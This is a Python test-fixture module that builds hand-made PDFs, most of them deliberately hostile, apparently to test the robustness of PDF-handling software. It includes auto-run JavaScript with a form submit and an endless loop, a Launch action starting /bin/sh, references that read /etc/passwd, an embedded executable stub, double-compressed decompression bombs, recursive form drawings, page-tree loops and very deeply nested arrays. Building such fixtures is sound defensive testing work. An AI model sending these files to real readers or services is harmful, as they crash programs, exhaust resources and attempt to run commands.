"""PDFs made by hand: honest ones, and such as attack whoever opens them."""

import functools
import io
import zlib
from collections.abc import Mapping, Sequence

FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def made(objects: Sequence[str | bytes], trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalog."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(data))
        body = content.encode() if isinstance(content, str) else content
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end += f"trailer << /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{len(data)}\n%%EOF"
    return data + end.encode()


def stream(content: bytes, entries: str = "") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries.encode(), content)


def text(line: str, size: int = 24) -> bytes:
    """What draws a line of text."""
    return f"BT /F1 {size} Tf 50 700 Td ({line}) Tj ET".encode()


def pdf(
    *pages: bytes,
    box: str = "[0 0 600 800]",
    catalog: str = "",
    page: str = "",
    more: Sequence[str | bytes] = (),
    resources: str = "",
) -> bytes:
    """A PDF of pages by what draws each.

    Args:
        box: The size of each page.
        catalog, page, resources: Further entries of the catalog, of each page, of the pages' resources.
        more: Further objects: the first has the number 4.
    """
    first = 4 + len(more)
    kids = " ".join(f"{first + 2 * number} 0 R" for number in range(len(pages)))
    objects: list[str | bytes] = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        f"<< /Type /Pages /Count {len(pages)} /Kids [{kids}] >>",
        FONT,
        *more,
    ]
    for number, content in enumerate(pages):
        held = f"/Resources << /Font << /F1 3 0 R >> {resources} >> /MediaBox {box} {page}"
        objects.append(f"<< /Type /Page /Parent 2 0 R {held} /Contents {first + 1 + 2 * number} 0 R >>")
        objects.append(stream(content))
    return made(objects)


def script() -> bytes:
    """What a reader with JavaScript would run when it opens the file, shows the page, or is clicked."""
    run = "<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://127.0.0.1:9/'); while (true) {}) >>"
    return pdf(
        text("scripts"),
        catalog=f"/OpenAction {run} /AA << /WC {run} /DS {run} >> /AcroForm << /Fields [4 0 R] /XFA (x) >>",
        page=f"/AA << /O {run} /C {run} >> /Annots [4 0 R]",
        more=[f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 100 100] /AA << /F {run} >> >>"],
    )


def launch() -> bytes:
    """What a reader would start, fetch or open."""
    start = "<< /S /Launch /F (/bin/sh) /Next [<< /S /URI /URI (http://127.0.0.1:9/) >> "
    start += "<< /S /GoToR /F (/etc/passwd) /D [0 /Fit] >> << /S /ImportData /F (/etc/passwd) >>] >>"
    outside = "<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /F (/etc/passwd) /Length 0 >>"
    return pdf(
        text("launch") + b" /X Do",
        catalog=f"/OpenAction {start}",
        resources="/XObject << /X 4 0 R >>",
        more=[outside + "\nstream\n\nendstream"],
    )


def huge_page() -> bytes:
    """A page as large as a country."""
    return pdf(text("huge"), box="[0 0 3000000000 2000000000]")


def endless_page() -> bytes:
    """A page without a size that a number could hold."""
    return pdf(text("endless"), box=f"[0 0 1{'0' * 400} 1]")


def tree_loop() -> bytes:
    """Pages within pages within themselves."""
    return made(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Count 30 /Kids [3 0 R 2 0 R] /Parent 3 0 R >>",
            "<< /Type /Pages /Count 30 /Kids [2 0 R 3 0 R] /Parent 2 0 R >>",
        ]
    )


@functools.cache
def bomb() -> bytes:
    """A page of some kilobytes that unpacks to a gigabyte, twice packed."""
    packer = zlib.compressobj(1)
    piece = b"0 0 m 9 9 l S " * 1_000_000
    once = b"".join(packer.compress(piece) for _ in range(70)) + packer.flush()
    packed = zlib.compress(once, 9)
    return with_content(stream(packed, "/Filter [/FlateDecode /FlateDecode]"))


def picture_bomb() -> bytes:
    """A picture of 3,600 million pixels in some kilobytes."""
    row = zlib.compress(bytes(60_000_000), 9)
    picture = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB "
    return pdf(
        b"600 0 0 800 0 0 cm /X Do",
        resources="/XObject << /X 4 0 R >>",
        more=[stream(row, picture + "/BitsPerComponent 8 /Filter /FlateDecode")],
    )


def laughs(deep: int = 30) -> bytes:
    """Drawings that each draw the next ten times."""
    forms = []
    for number in range(deep):
        inner = b"/X Do " * 10 if number + 1 < deep else b"0 0 m 9 9 l S"
        below = f"/Resources << /XObject << /X {5 + number} 0 R >> >>" if number + 1 < deep else ""
        forms.append(stream(inner, f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] {below}"))
    return pdf(text("first"), b"/X Do", text("last"), resources="/XObject << /X 4 0 R >>", more=forms)


def many_pages(count: int = 100_000) -> bytes:
    """One page, listed so often."""
    return made(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Count {count} /Kids [{'3 0 R ' * count}] >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 60 80] >>",
        ]
    )


def lying_count() -> bytes:
    """A file of one page that says it has two billion."""
    return pdf(text("one")).replace(b"/Count 1 ", b"/Count 2147483647 ")


def embedded_file(content: bytes = b"MZ\x90\x00") -> bytes:
    """A program in a PDF."""
    names = "/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>"
    return pdf(
        text("embedded"),
        catalog=names,
        more=["<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>", stream(content)],
    )


def deep_arrays(deep: int = 200_000) -> bytes:
    """A page whose resources are arrays within arrays."""
    return pdf(text("deep"), resources=f"/ExtGState {'[' * deep}{']' * deep}")


def truncated(data: bytes) -> bytes:
    """The first two thirds of a file."""
    return data[: 2 * len(data) // 3]


def with_content(content: bytes) -> bytes:
    """A page that a stream draws."""
    page = (
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /F1 {FONT} >> >>"
    )
    catalog, pages = "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    return made([catalog, pages, page, content])


def protected(data: bytes, password: str) -> bytes:
    """A PDF that asks for a password."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(password, "owner", algorithm="RC4-128")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def hostile() -> Mapping[str, bytes]:
    """All that attack, by name."""
    return {
        "script": script(),
        "launch": launch(),
        "huge_page": huge_page(),
        "endless_page": endless_page(),
        "tree_loop": tree_loop(),
        "bomb": bomb(),
        "picture_bomb": picture_bomb(),
        "laughs": laughs(),
        "many_pages": many_pages(),
        "lying_count": lying_count(),
        "embedded_file": embedded_file(),
        "deep_arrays": deep_arrays(),
        "truncated": truncated(embedded_file()),
    }
